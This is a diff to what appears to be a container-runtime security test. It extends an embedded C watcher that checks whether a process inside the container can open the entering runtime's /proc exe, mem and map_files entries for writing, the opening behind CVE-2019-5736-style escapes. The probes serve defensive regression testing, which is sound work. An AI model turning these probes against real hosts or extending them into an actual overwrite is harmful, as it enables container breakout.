@@ -1,6 +1,6 @@
 """Attacks on the process that enters a container: its descriptors, its memory, its program, its working directory.
 
-The overwritten interpreter (CVE-2019-5736) is in tests/wrapper/test_seal.py.
+The overwritten program (CVE-2019-5736) is in tests/wrapper/test_seal.py.
 
 Where Debian's runc 1.1.5 falls, it is attacked too, to show that the attack is one. Targets are files of the test's own.
 """
@@ -24,6 +24,9 @@ WATCH = r"""
 #include <string.h>
 #include <sys/ptrace.h>
 #include <unistd.h>
+static int is_runtime(const char *name) {
+    return strstr(name, "python") || strstr(name, "runc") || strstr(name, "hookrun") || strstr(name, "/heap");
+}
 static int attempt(int pid) {
     char path[64], target[256];
     int won = 0;
@@ -37,11 +40,19 @@ static int attempt(int pid) {
     } closedir(d); }
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
     ssize_t n = readlink(path, target, sizeof target - 1);
-    if (n > 0) { target[n] = 0; if (strstr(target, "python") || strstr(target, "runc")) { printf("WON exe %s\n", target); won = 1; } }
+    if (n > 0) { target[n] = 0; if (is_runtime(target)) { printf("WON exe %s\n", target); won = 1; } }
     snprintf(path, sizeof path, "/proc/%d/mem", pid);
     int fd = open(path, O_RDWR);
-    if (fd >= 0 && n > 0 && (strstr(target, "python") || strstr(target, "runc"))) { printf("WON mem\n"); won = 1; }
+    if (fd >= 0 && n > 0 && is_runtime(target)) { printf("WON mem\n"); won = 1; }
     if (fd >= 0) close(fd);
+    snprintf(path, sizeof path, "/proc/%d/map_files", pid);
+    d = opendir(path);
+    if (d) { struct dirent *e; while ((e = readdir(d))) {
+        char file[360]; snprintf(file, sizeof file, "%s/%s", path, e->d_name);
+        ssize_t m = readlink(file, target, sizeof target - 1);
+        if (m > 0) { target[m] = 0; if (is_runtime(target)) { printf("WON map_files %s\n", target); won = 1;
+            int heap = open(file, O_RDWR); if (heap >= 0) { printf("WON writable\n"); close(heap); } } }
+    } closedir(d); }
     return won;
 }
 int main(void) {
